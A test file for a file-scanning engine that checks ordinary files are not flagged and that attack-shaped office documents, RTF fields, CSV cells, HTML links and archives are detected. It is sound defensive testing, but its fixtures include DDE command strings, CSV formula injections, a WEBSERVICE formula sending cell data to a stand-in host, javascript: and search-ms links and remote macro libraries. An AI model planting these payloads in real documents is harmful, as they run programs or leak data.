import sharp from 'sharp';
import { expect, test } from 'vitest';
import { analyseUrl } from '../../../lib/engines/url/analyse-url.ts';
import { buildPng } from '../../fixtures/build-image.ts';
import { buildDocx, relationships } from '../../fixtures/build-office.ts';
import { buildVbaProject } from '../../fixtures/build-vba.ts';
import { zipOf } from '../zip-fixture.ts';
import { verdictOn } from './analyse.ts';

/** Ordinary files that resemble attacks, by what they hold. None of them may be suspicious. */
const ORDINARY: readonly (readonly [what: string, name: string, content: string])[] = [
  ['a word that ends like a download command', 'setup.py', '# does not confirm the promotion\nvalue = 1\n'],
  ['a script of the shell that fetches a file', 'fetch.sh', '#!/bin/sh\ncurl -O https://files.example/key.gpg\n'],
  ['a launcher of PowerShell', 'tool.ps1', '$a = "x.js"\nInvoke-Expression "& `"node`" `"$a`" $args"\n'],
  ['a batch file that opens a window', 'tool.bat', '@echo off\r\nstart /B "Server" server %1\r\n'],
  [
    'a question to the system',
    'util.vbs',
    'Set w = GetObject("winmgmts:")\r\nw.ExecQuery "SELECT * FROM Win32_Processor"\r\n',
  ],
  [
    'names of languages in capitals and small',
    'names.js',
    'var n = eval("1");\nvar l = ["powershell", "batch", "applescript"];\n',
  ],
  [
    'a drawing with labels',
    'flow.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">Start</div></foreignObject></svg>',
  ],
  [
    'a drawing with short names for namespaces',
    'logo.svg',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg xmlns="&ns;"><path d="M0 0"/></svg>',
  ],
  [
    'a page with a drawing and a script',
    'page.html',
    '<!DOCTYPE html><html><body><svg><path d="M0 0"/></svg><p>Text</p><script>var theme = 1;</script></body></html>',
  ],
  [
    'a page of documentation whose search is closed by a link',
    'class.html',
    '<!DOCTYPE html><html><body><p>Text</p><a id="close" href="javascript:searchBox.CloseResultsWindow()">x</a><a href="javascript:window.print()">Print</a><map><area href="JavaScript:history.back();"></map></body></html>',
  ],
  ['measurements with exponents', 'sinus.csv', '+3,-1.5e-3,+2E10,-inf,+nan,+/-0.5\r\n'],
  ['a note that only ends like a link', 'teams.url', 'https://www.example.org/team/index.html\n'],
  ['a theme of icons', 'index.theme', '# icons\n[Icon Theme]\nName=Plain\nInherits=base\n'],
  [
    'a library that saves files and holds a page as text',
    'library.js',
    `${'var value = 1;\n'.repeat(5_000)}var p = "<html>"; var b = new Blob([p]); a.download = n; atob(t);`,
  ],
];

test.each(ORDINARY)('nothing suspicious is said of %s', async (_, name, content) => {
  expect(await verdictOn(Buffer.from(content), name)).toMatch(/^(?:benign|unknown)/);
});

const source = (count: number) =>
  Object.fromEntries(
    Array.from({ length: count }, (_, index) => [`tool-1.0/lib/part${index}.py`, `value = ${index}\n`]),
  );
const library = { content: Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(200, 1)]) };

/** A workbook with one form control. */
const workbook = (control: string, more: Parameters<typeof zipOf>[0] = {}) =>
  zipOf({
    ...more,
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    'xl/workbook.xml': '<workbook/>',
    'xl/drawings/vmlDrawing1.vml': `<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:ClientData ObjectType="Checkbox">${control}</x:ClientData></xml>`,
  });

const letter = (event: string) =>
  zipOf({
    mimetype: 'application/vnd.oasis.opendocument.text-template',
    'content.xml': `<office:document-content><office:scripts><office:event-listeners><script:event-listener ${event}/></office:event-listeners></office:scripts></office:document-content>`,
  });

/** Ordinary archives and documents: what they hold. */
const PACKED: readonly (readonly [what: string, name: string, bytes: Buffer])[] = [
  [
    'a package of Python',
    'tool.whl',
    zipOf({ ...source(30), 'tool-1.0/lib/fast/core.so': library, 'tool-1.0/lib/run/launch.exe': library }),
  ],
  ['a small package of Python', 'tool.zip', zipOf({ 'foo/one.py': 'value = 1\n', 'setup.py': 'value = 1\n' })],
  [
    'the source of a program',
    'source.zip',
    zipOf({ ...source(30), 'tool-1.0/build.bat': 'rem build\r\n', 'tool-1.0/index.js': 'var value = 1;\n' }),
  ],
  [
    'a saved page',
    'page.zip',
    zipOf({
      'page.html': '<p>text',
      'page_files/a.css': 'p{}',
      'page_files/b.txt': 'x',
      'page_files/c.js': 'var a = 1;\n',
    }),
  ],
  [
    'a small package with a compiled part',
    'hash.whl',
    zipOf({ 'hash.cpython-311.so': library, 'hash.pyi': 'x: int\n' }),
  ],
  [
    'a picture with a closing byte too many',
    'dot.gif',
    Buffer.from('GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x01D\0;;', 'latin1'),
  ],
  [
    'data that holds the marks of a disk image',
    'reader.bin',
    Buffer.concat([Buffer.alloc(4_000, 1), Buffer.from('conectix\0 .exe\0'), Buffer.alloc(4_000, 1)]),
  ],
  [
    'a template whose manifest names its description and whose events do nothing',
    'letter.ott',
    zipOf({
      mimetype: 'application/vnd.oasis.opendocument.text-template',
      'content.xml':
        '<office:document-content><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href=""/></office:event-listeners></office:document-content>',
      'META-INF/manifest.xml':
        '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest:manifest/>',
    }),
  ],
  [
    'a text of OpenOffice.org 1, whose parts name their DTD',
    'letter.sxw',
    zipOf({
      'content.xml':
        '<!DOCTYPE office:document-content PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "office.dtd"><office:document-content xmlns:office="http://openoffice.org/2000/office"><office:script/><office:body/></office:document-content>',
      'META-INF/manifest.xml':
        '<manifest:manifest xmlns:manifest="http://openoffice.org/2001/manifest"><manifest:file-entry manifest:media-type="application/vnd.sun.xml.writer" manifest:full-path="/"/></manifest:manifest>',
    }),
  ],
  ['a form with a check box', 'form.xlsx', workbook('<x:FmlaLink>$B$2</x:FmlaLink>')],
  [
    'a form with a list and a shape that shows a cell',
    'form.xlsx',
    workbook(
      '<x:FmlaRange>Lists!$A$1:$A$9</x:FmlaRange><xdr:sp macro="" textlink="Sheet1!$A$1"/><t>The macro = "x"</t>',
    ),
  ],
  ...[
    'script:language="ooo:StarBasic" script:event-name="office:new" script:macro-name="application:Template.Correspondence.Main"',
    'script:language="ooo:script" script:event-name="office:new" xlink:href="vnd.sun.star.script:Template.Correspondence.Main?language=Basic&amp;location=application" xlink:type="simple"',
  ].map((event) => ['a letter that starts the assistant of the office program', 'letter.ott', letter(event)] as const),
];

test.each([
  ['a button', workbook('<x:FmlaMacro>[0]!Button1_Click</x:FmlaMacro>')],
  ['a shape', workbook('', { 'xl/drawings/drawing1.xml': '<xdr:sp macro="[0]!Größe.Rechnen" textlink=""/>' })],
])('nothing is said of %s with a macro of its own workbook, which has none', async (_, bytes) => {
  expect(await verdictOn(bytes, 'form.xlsx')).not.toContain('office-action');
});

const flat = (script: string) =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:mimetype="application/vnd.oasis.opendocument.text"><office:scripts>\n  ${script}\n </office:scripts><office:body><office:text/></office:body></office:document>`,
  );
const basic = (libraries: string) =>
  `<office:script script:language="ooo:Basic">\n   <ooo:libraries xmlns:ooo="http://openoffice.org/2004/office" xmlns:xlink="http://www.w3.org/1999/xlink">\n    ${libraries}\n   </ooo:libraries>\n  </office:script>`;
const EMPTY_LIBRARY = '<ooo:library-embedded ooo:name="Standard"/>';
const button = (macro: string) =>
  Buffer.from(`{\\rtf1 {\\field{\\*\\fldinst MACROBUTTON  ${macro} Name}{\\fldrslt }}}`);

test.each([
  ['a flat document with the empty library that LibreOffice writes', 'a.fodt', flat(basic(EMPTY_LIBRARY))],
  [
    'a flat document with the empty list of libraries that LibreOffice writes',
    'a.fodt',
    flat(
      '<office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office"/></office:script>',
    ),
  ],
  ['a place to type a name in', 'a.rtf', button('None')],
  ['a place to type a name in, of Word', 'a.rtf', button('NoMacro')],
])('%s is benign', async (_, name, bytes) => {
  expect(await verdictOn(bytes, name)).toMatch(/^benign/);
});

test.each([
  basic('<ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="A"/></ooo:library-embedded>'),
  basic(`${EMPTY_LIBRARY}<ooo:library-linked ooo:name="A" xlink:href="https://threat.example/a.xlb"/>`),
  `${basic(EMPTY_LIBRARY)}${basic('<ooo:library-embedded ooo:name="A"><ooo:module/></ooo:library-embedded>')}`,
  basic(EMPTY_LIBRARY).replace('ooo:Basic', 'JavaScript'),
  basic(EMPTY_LIBRARY).replace(' script:language', ' xlink:href="https://threat.example/" script:language'),
  `${basic(EMPTY_LIBRARY)}<script:event-listener script:event-name="dom:load" script:macro-name="a"/>`,
])('a script in a flat document is still found: %s', async (script) => {
  expect(await verdictOn(flat(script), 'a.fodt')).toContain('office-custom-code');
});

test.each(['Nonesuch', 'Go', 'NoMacros', 'NoMacro.Start', 'None.Start'])(
  'a button in a text without macros that starts %s is a fact',
  async (macro) => {
    expect(await verdictOn(button(macro), 'a.rtf')).toBe('unknown rtf-active');
  },
);

const field = (instruction: string) => Buffer.from(`{\\rtf1 {\\field{\\*\\fldinst${instruction}}{\\fldrslt x}}}`);

test.each([
  ['behind a bookmark', ' {\\*\\bkmkstart a}DDE{\\*\\bkmkend a} x y'],
  ['with content of another program in its keyword', ' D{\\*\\other {junk \\} junk}}DE x y'],
  ['behind data of a field', ' {\\*\\datafield 00d0} DDE x y'],
  ['whose keyword is the result of a field in it', ' {\\field{\\*\\fldinst QUOTE "a"}{\\fldrslt DDE}} x y'],
  ['with letters by their numbers', ' \\u68 z\\u68 z\\u69 z x y'],
  ['with letters by their numbers, each with two in its place', " \\uc2\\u68 \\'aa\\'aa\\u68 zz\\u69 zz x y"],
  ['with letters by their numbers, and none in their place', ' \\uc0\\u68 DE x y'],
  ['whose word has a number', '0 DDE x y'],
])('a field of rich text %s is read as Word reads it', async (_, instruction) => {
  expect(await verdictOn(field(instruction), 'a.rtf')).toContain('rtf-active');
});

test.each([
  ['a page number between bookmarks', ' {\\*\\bkmkstart DDE}PAGE{\\*\\bkmkend DDE} '],
  ['a link with data', ' HYPERLINK "https://www.x.example/"{\\*\\datafield 00d0c9ea79}'],
  ['a place for a name with letters by their numbers', " MERGEFIELD Stra\\u223\\'dfe "],
])('%s in rich text is benign', async (_, instruction) => {
  expect(await verdictOn(field(instruction), 'a.rtf')).toMatch(/^benign/);
});

test('a template that consists only of its styles is benign', async () => {
  const template = zipOf({
    mimetype: 'application/vnd.oasis.opendocument.text-template',
    'styles.xml': '<office:document-styles><office:styles/></office:document-styles>',
  });
  expect(await verdictOn(template, 'Simple.ott')).toMatch(/^benign/);
});

test.each(PACKED)('nothing suspicious is said of %s', async (_, name, bytes) => {
  expect(await verdictOn(bytes, name)).toMatch(/^(?:benign|unknown)/);
});

const page = (link: string) => Buffer.from(`<!DOCTYPE html><html><body><p>Text</p>${link}</body></html>`);
const filler = Object.fromEntries(Array.from({ length: 40 }, (_, index) => [`data/${index}.txt`, `text ${index}`]));
const program = { content: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100, 1)]) };

/** The same kinds with what an attack makes of them. */
test.each<[string, string, Buffer, string]>([
  ...[
    'script:language="ooo:StarBasic" script:event-name="office:new" script:macro-name="document:Template.Correspondence.Main"',
    'script:language="ooo:StarBasic" script:event-name="office:new" script:macro-name="application:Standard.Module1.Main"',
    'script:language="ooo:script" script:event-name="office:new" xlink:href="vnd.sun.star.script:Template.Correspondence.Main?language=Basic&amp;location=document"',
    'script:language="ooo:script" script:event-name="office:new" xlink:href="vnd.sun.star.script:Template/../../a.py$run?language=Python&amp;location=share"',
    'script:macro-name="application:Template.Correspondence.Main" script:location="document"',
  ].map((event): [string, string, Buffer, string] => [
    'another event',
    'letter.ott',
    letter(event),
    'office-custom-code',
  ]),
  ...[
    '<a href="java&#10;script:go()">x</a>',
    '<a href="vbscript:go()">x</a>',
    '<iframe src="javascript:go()"></iframe>',
    '<form action="javascript:go()"></form>',
  ].map((link): [string, string, Buffer, string] => [link, 'a.html', page(link), 'html-unsafe-link']),
  [
    'a link that leads to a search for programs',
    'a.html',
    page('<a href="javascript:location.href=%22search-ms:query=a&crumb=location:%5C%5Chost.example%5Cshare%22">x</a>'),
    'html-unsafe-link',
  ],
  ...['[1]!Go', "'C:\\a.xlsm'!Go", "[0]!Go'&amp;x", 'Go', '[0]!Go</x:FmlaMacro><x:FmlaMacro>[1]!Go', '[0]!&#60;Go'].map(
    (macro): [string, string, Buffer, string] => [
      `a button with the macro ${macro}`,
      'form.xlsx',
      workbook(`<x:FmlaMacro>${macro}</x:FmlaMacro>`),
      'office-action',
    ],
  ),
  ...(
    [
      ['xl/vbaProject.bin', buildVbaProject()],
      ['xl/hidden.xml', buildVbaProject()],
      ['xl/_rels/workbook.xml.rels', relationships([{ id: 'a', type: 'x/xlMacrosheet', target: 'macros.xml' }])],
    ] as const
  ).map(([part, content]): [string, string, Buffer, string] => [
    `a button with a macro beside ${part}`,
    'form.xlsx',
    workbook('<x:FmlaMacro>[0]!Go</x:FmlaMacro>', { [part]: { content: Buffer.from(content) } }),
    'office-action',
  ]),
  [
    'a shape with a macro of another workbook',
    'form.xlsx',
    workbook('', { 'xl/drawings/drawing1.xml': '<xdr:sp macro="[1]!Go" textlink=""/>' }),
    'office-action',
  ],
  ...[
    `<x:FmlaLink>cmd|'/c start'!A1</x:FmlaLink>`,
    '<x:FmlaLink>cmd|&apos;/c start&apos;!A1</x:FmlaLink>',
    `<x:FmlaRange>cmd|'/c start'!A1</x:FmlaRange>`,
    `<x:FmlaTxbx>MSEXCEL|'\\..\\..\\a.exe'!A1</x:FmlaTxbx>`,
    `<formControlPr objectType="CheckBox" fmlaLink="cmd|'/c start'!A1"/>`,
    `<formControlPr objectType="List" fmlaRange="cmd|'/c start'!A1"/>`,
    `<xdr:sp macro="" textlink="cmd|'/c start'!A1"/>`,
  ].map((control): [string, string, Buffer, string] => [
    'a control whose cell starts a program',
    'form.xlsx',
    workbook(control),
    'dde-starts-program',
  ]),
  ...[
    '<x:FmlaLink>WEBSERVICE("https://host.example/"&amp;A1)</x:FmlaLink>',
    '<x:FmlaRange>CALL("a.dll","b","J")</x:FmlaRange>',
    '<formControlPr fmlaTxbx="EXEC(&quot;a.exe&quot;)"/>',
  ].map((control): [string, string, Buffer, string] => [
    'a control with a formula that calls out',
    'form.xlsx',
    workbook(control),
    'office-dangerous-formula',
  ]),
  [
    'a shape with a formula that links to a program',
    'form.xlsx',
    workbook('<xdr:sp textlink="HYPERLINK(&quot;file://host.example/a.exe&quot;)"/>'),
    'office-unsafe-link',
  ],
  ...[
    ' script:macro-name="application:Template.Correspondence.Main" xlink:href="file:///a.hta"',
    ' script:macro-name="application:Template.Correspondence.Main/../Standard"',
    ' script:macro-name="application:Tools.Misc.Shell"',
    ' script:macro-name="application:Template.Correspondence.Main" script:macro-name="Standard.Module1.Main"',
    ' xlink:href="vnd.sun.star.script:Template.Correspondence.Main?language=Basic&amp;location=application&amp;location=document"',
    ' xlink:href="vnd.sun.star.script:Template.Correspondence.Main?language=JavaScript&amp;location=application"',
    ' xlink:href="vnd.sun.star.script:Template.Correspondence.Main(calc)?language=Basic&amp;location=application"',
  ].map((event): [string, string, Buffer, string] => [
    'an event like that of the assistant',
    'letter.ott',
    letter(`script:language="ooo:script" script:event-name="office:new"${event}`),
    'office-custom-code',
  ]),
  ['a script alone in a folder', 'a.zip', zipOf({ 'order/order.js': 'var a = 1;\n' }), 'archive-executable'],
  [
    'a script beside a note',
    'a.zip',
    zipOf({ 'note.txt': 'x', 'order/order.js': 'var a = 1;\n' }),
    'archive-executable',
  ],
  ['a program at the top of many files', 'a.zip', zipOf({ ...filler, 'start.exe': program }), 'archive-executable'],
  ['a program by its bytes at the top', 'a.zip', zipOf({ ...filler, start: program }), 'archive-executable'],
  ['a program among few files', 'a.zip', zipOf({ 'a/b/c.scr': program, 'd/e.txt': 'x' }), 'archive-executable'],
  [
    'a disguised program among many files',
    'a.zip',
    zipOf({ ...filler, 'data/b/c.pdf.exe': program }),
    'double-extension',
  ],
  ['a formula with an exponent', 'a.csv', Buffer.from('a,=1e5+cmd\r\n'), 'text-formula'],
  ['a number with a call behind it', 'a.csv', Buffer.from("a,-1e3+cmd|' /C calc'!A0\r\n"), 'text-formula'],
  ['a theme that Windows applies', 'a.theme', Buffer.from('[Icon Theme]\n[Theme]\nDisplayName=x\n'), 'shortcut'],
  [
    'an event that runs a macro',
    'a.odt',
    zipOf({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml':
        '<a><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.b"/></a>',
    }),
    'office-custom-code',
  ],
])('%s is still found', async (_, name, bytes, expected) => {
  expect(await verdictOn(bytes, name)).toContain(expected);
});

test('nothing suspicious is said of a TIFF with places of eight bytes', async () => {
  const tiff = await sharp(buildPng()).tiff({ bigtiff: true }).toBuffer();
  expect(tiff[2]).toBe(43);
  expect(await verdictOn(tiff, 'scan.tif')).toMatch(/^benign/);
});

test.each([
  'https://ελλάδα.gr/',
  'https://www.net-a-porter.com/en-de/',
  'https://www.jstor.org.proxy.library.example/stable/1',
  'https://shop.example/unsubscribe?email=jane%40example.org',
])('nothing is said against %s', (url) => {
  expect(analyseUrl(url)).toMatchObject({ outcome: 'completed', level: 'benign' });
});

test('a document with a member that is deflated and has no bytes at all is read', async () => {
  const name = 'docProps/thumbnail.wmf';
  const zip = Buffer.from(await buildDocx({ parts: [{ name, content: '' }] }));
  // Two bytes are what a deflated nothing takes. The writer of this one leaves them out, with their length.
  const at = zip.indexOf(name) - 30;
  const inDirectory = zip.lastIndexOf(name) - 46;
  expect([zip.readUInt32LE(at + 18), zip.readUInt32LE(inDirectory + 20)]).toEqual([2, 2]);
  zip.writeUInt32LE(0, at + 18);
  zip.writeUInt32LE(0, inDirectory + 20);
  expect(await verdictOn(zip, 'letter.docx')).toBe('benign');
});
